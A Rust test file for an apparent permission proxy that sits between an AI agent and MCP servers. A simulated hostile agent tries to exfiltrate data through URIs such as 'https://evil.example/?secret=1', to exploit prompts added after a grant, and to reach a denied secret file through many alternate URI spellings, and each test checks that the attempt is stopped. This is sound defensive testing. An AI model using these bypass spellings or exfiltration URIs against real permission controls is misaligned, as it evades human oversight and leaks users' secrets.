//! A server and an agent try to have "all reads" cover more than was meant: URIs that the agent chooses,
//! and prompts and templates that were added later; and to have a deny cover less than was meant. Each
//! test states what was tried and what stopped it.

use std::fs;
use std::path::{Path, PathBuf};
use std::thread::JoinHandle;
use std::time::Instant;

use anyhow::{Context, Result, ensure};
use gatehouse_tests::approvals;
use gatehouse_tests::child_process::TEST_TIMEOUT;
use gatehouse_tests::fixture::{LATE_PROMPT, LATE_RESOURCE};
use gatehouse_tests::fixture_server::{FixtureServer, ServerTransport, add};
use gatehouse_tests::gatehouse::Gatehouse;
use gatehouse_tests::http::{RawHttpResponse, post, stateless_request};
use serde_json::{Value, json};

struct HostileAgent {
    gatehouse: Gatehouse,
    token: String,
    _upstream: FixtureServer,
}

impl HostileAgent {
    fn with_all_reads(fault: &str) -> Result<Self> {
        let agent = Self::start(Gatehouse::start()?, &["--fault", fault])?;
        agent.gatehouse.ask(&["policy", "auto-approve", "raw", "reads"])?;
        Ok(agent)
    }

    fn start(gatehouse: Gatehouse, server: &[&str]) -> Result<Self> {
        let upstream = add(&gatehouse, "raw", ServerTransport::Http, server)?;
        let token = gatehouse.add_client("agent")?;
        Ok(Self { gatehouse, token, _upstream: upstream })
    }

    fn begin(&self, method: &'static str, member: &str, name: &str) -> JoinHandle<Result<RawHttpResponse>> {
        let mut params = json!({ "_meta": {
            "io.modelcontextprotocol/protocolVersion": "2026-07-28",
            "io.modelcontextprotocol/clientInfo": { "name": "bytes", "version": "1" },
            "io.modelcontextprotocol/clientCapabilities": {},
        } });
        params[member] = json!(name);
        let body = json!({ "jsonrpc": "2.0", "id": 1, "method": method, "params": params }).to_string();
        let (endpoint, name) = (self.gatehouse.endpoint.clone(), name.to_owned());
        let authorization = format!("Bearer {}", self.token);
        std::thread::spawn(move || {
            let headers = [
                ("Authorization", authorization.as_str()),
                ("Content-Type", "application/json"),
                ("Accept", "application/json, text/event-stream"),
                ("MCP-Protocol-Version", "2026-07-28"),
                ("Mcp-Method", method),
                ("Mcp-Name", name.as_str()),
            ];
            post(&endpoint, &headers, body.as_bytes())
        })
    }

    fn assert_runs(&self, method: &'static str, member: &str, name: &str) -> Result<RawHttpResponse> {
        let end = self.begin(method, member, name).join().map_err(|_| anyhow::anyhow!("broke off"))??;
        ensure!(end.body.contains("\"result\""), "{name} did not run: {end:?}");
        Ok(end)
    }

    /// Sends a request, denies the expected approval request, and returns it.
    fn assert_asked(&self, method: &'static str, member: &str, name: &str) -> Result<Value> {
        let call = self.begin(method, member, name);
        let question = approvals::wait_for_pending(&self.gatehouse, 1)
            .with_context(|| format!("{name} was not asked"))?
            .remove(0);
        self.gatehouse.ask(&["approvals", "answer", question["id"].as_str().context("id")?, "deny"])?;
        let end = call.join().map_err(|_| anyhow::anyhow!("broke off"))??;
        ensure!(!end.body.contains("\"result\""), "{name} ran: {end:?}");
        Ok(question)
    }
}

/// Tried: to send data out in the URI of a resource, through templates that accept any URI. Stopped by:
/// a template whose scheme or host the client chooses, or whose scheme is a network one, reaches
/// outside, and "all reads" never covers what reaches outside.
#[test]
fn all_reads_excludes_templates_that_reach_outside() -> Result<()> {
    let agent = HostileAgent::with_all_reads("open-templates")?;
    for own in ["fixture://note", "fixture://item/7"] {
        agent.assert_runs("resources/read", "uri", own)?;
    }
    for outside in [
        "https://evil.example/?secret=1",
        "https://docs.example/secret",
        "ftp://evil.example/secret",
        "notes://evil.example/secret",
        "file://evil.example/share",
        "anything://evil.example",
    ] {
        let question = agent.assert_asked("resources/read", "uri", outside)?;
        ensure!(question["request"]["class"]["reachesOutside"] == true, "{question:#}");
        let wide = approvals::choices(&question)?.iter().any(|choice| choice["width"] == "reads");
        ensure!(!wide, "all reads are offered for {outside}: {question:#}");
    }
    // A prompt that takes a URI is treated the same.
    agent.assert_asked("prompts/get", "name", "fetch")?;
    Ok(())
}

/// Tried: prompts and templates that the server adds or changes after all reads were allowed. Stopped
/// by: wide grants are for the definitions of prompts and templates that existed, as for those of tools.
/// Resources in the server's list are covered even if they were added later.
#[test]
fn wide_grant_excludes_later_prompts_and_templates() -> Result<()> {
    let agent = HostileAgent::with_all_reads("adds-prompts")?;
    agent.assert_runs("prompts/get", "name", "plain")?;
    agent.assert_runs("resources/read", "uri", "fixture://item/7")?;
    agent.gatehouse.ask(&["policy", "grant", "raw", "--tool", "mutate"])?;
    let changed = stateless_request(
        &agent.gatehouse.endpoint,
        &agent.token,
        "tools/call",
        r#""name":"mutate","arguments":{}"#,
    )?;
    ensure!(changed.body.contains("changed"), "{changed:?}");
    agent.gatehouse.ask(&["servers", "reconnect", "raw"])?;
    let deadline = Instant::now() + TEST_TIMEOUT;
    while !stateless_request(&agent.gatehouse.endpoint, &agent.token, "prompts/list", "")?
        .body
        .contains("Came later")
    {
        ensure!(Instant::now() < deadline, "the new prompt was never noticed");
    }

    agent.assert_asked("prompts/get", "name", LATE_PROMPT)?;
    let question = agent.assert_asked("prompts/get", "name", "plain")?;
    ensure!(question["request"]["warnings"].to_string().contains("definition_changed"), "{question:#}");
    ensure!(question["request"]["changes"].to_string().contains("tells everybody"), "{question:#}");
    agent.assert_asked("resources/read", "uri", "fixture://later/7")?;
    for known in ["fixture://item/8", "fixture://note", LATE_RESOURCE] {
        agent.assert_runs("resources/read", "uri", known)?;
    }
    Ok(())
}

/// A file that an agent must not read, on a server that parses a file's URI leniently.
struct Secret {
    agent: HostileAgent,
    folder: PathBuf,
    log: PathBuf,
}

impl Secret {
    fn new() -> Result<Self> {
        let gatehouse = Gatehouse::start()?;
        let (folder, log) = (gatehouse.folder("in")?, gatehouse.home().join("server.log"));
        fs::write(folder.join("secret.txt"), "s3cret")?;
        fs::write(folder.join("other.txt"), "harmless")?;
        for name in ["x#", "x?y"] {
            fs::create_dir(folder.join(name))?;
        }
        let server = ["--fault", "folds-uris", "--log", log.to_str().context("path")?];
        Ok(Self { agent: HostileAgent::start(gatehouse, &server)?, folder, log })
    }

    fn uri(&self, file: &str) -> Result<String> {
        Ok(format!("file://{}/{file}", self.folder.to_str().context("path")?))
    }

    /// Ways to write the URI of the secret that the server treats as equal.
    fn spellings(&self) -> Result<Vec<String>> {
        let folder = self.folder.to_str().context("path")?;
        Ok(vec![
            format!("file://{folder}/./secret.txt"),
            format!("file://{folder}/../in/secret.txt"),
            format!("file://{folder}//secret.txt"),
            format!("file://{folder}/%73ecret.txt"),
            format!("file://{folder}/%73ecret%2Etxt"),
            format!("file://{folder}%2f%2e%2fsecret.txt"),
            format!("FILE://{folder}/secret.txt"),
            format!("file://localhost{folder}/secret.txt"),
            format!("file://localhost:80{folder}/secret.txt"),
            format!("file://nas.example{folder}/secret.txt"),
            format!("file:{folder}/secret.txt"),
            format!("file://{folder}/secret.txt#x"),
            format!("file://{folder}/secret.txt?x=1"),
            format!("file://{folder}/x%23%2f..%2fsecret.txt"),
            format!("file://{folder}/x%3fy/../secret.txt"),
        ])
    }

    fn reads(&self, uri: &str, content: &str) -> Result<()> {
        let end = self.agent.assert_runs("resources/read", "uri", uri)?;
        ensure!(end.body.contains(content), "{uri} was not read: {end:?}");
        Ok(())
    }

    /// The denied resource cannot be read in any spelling: no approval is requested, and nothing reaches
    /// the server.
    fn is_out_of_reach(&self) -> Result<()> {
        let before = reads_of(&self.log)?;
        for uri in self.spellings()?.into_iter().chain([self.uri("secret.txt")?]) {
            let read = self.agent.begin("resources/read", "uri", &uri);
            let end = read.join().map_err(|_| anyhow::anyhow!("broke off"))??;
            ensure!(end.body.contains("\"error\""), "{uri} ran: {end:?}");
            ensure!(!end.body.contains("s3cret"), "{uri} was read: {end:?}");
        }
        let after = reads_of(&self.log)?;
        ensure!(after == before, "{} reads reached the server", after - before);
        approvals::wait_for_pending(&self.agent.gatehouse, 0)?;
        self.reads(&self.uri("other.txt")?, "harmless")
    }
}

/// How many resource reads the server received.
fn reads_of(log: &Path) -> Result<usize> {
    Ok(fs::read_to_string(log)?.lines().filter(|line| line.contains("\"resources/read\"")).count())
}

/// Tried: a resource that a rule denies, by other spellings of its URI, on a server of which everything
/// else is allowed. Stopped by: a deny of a resource covers every URI that some server may treat as
/// equal to the named one.
#[test]
fn it_gets_round_a_deny_of_a_resource_by_another_spelling() -> Result<()> {
    let secret = Secret::new()?;
    let gatehouse = &secret.agent.gatehouse;
    gatehouse.ask(&["policy", "auto-approve", "raw", "all"])?;
    for uri in secret.spellings()? {
        secret.reads(&uri, "s3cret")?;
    }
    let rule = format!("resource:{}", secret.uri("secret.txt")?);
    gatehouse.ask(&["policy", "deny", "raw", "--tool", &rule])?;
    secret.is_out_of_reach()
}

/// Tried: the same after the person answered the request for one spelling, chosen by the agent, with a
/// permanent deny. Stopped by: the same, whichever spelling was denied first.
#[test]
fn it_gets_round_a_denial_by_another_spelling() -> Result<()> {
    let secret = Secret::new()?;
    let gatehouse = &secret.agent.gatehouse;
    let first = format!("{}#first", secret.uri("%2e/secret.txt")?);
    let read = secret.agent.begin("resources/read", "uri", &first);
    let question = approvals::wait_for_pending(gatehouse, 1)?.remove(0);
    ensure!(question["request"]["subject"]["uri"] == first.as_str(), "{question:#}");
    let choice = json!({ "lifetime": "until_quit", "width": "tool", "everyClient": false, "conditions": [] });
    let answer = json!({ "answer": "deny", "choice": choice, "reason": null });
    let answers = json!({ "answers": [
        { "id": question["id"], "hash": question["request"]["hash"], "answer": answer },
    ] });
    gatehouse.command("approvals.answer", &answers)?;
    let end = read.join().map_err(|_| anyhow::anyhow!("broke off"))??;
    ensure!(end.body.contains("\"error\""), "{first} ran: {end:?}");
    gatehouse.ask(&["policy", "auto-approve", "raw", "all"])?;
    secret.is_out_of_reach()
}
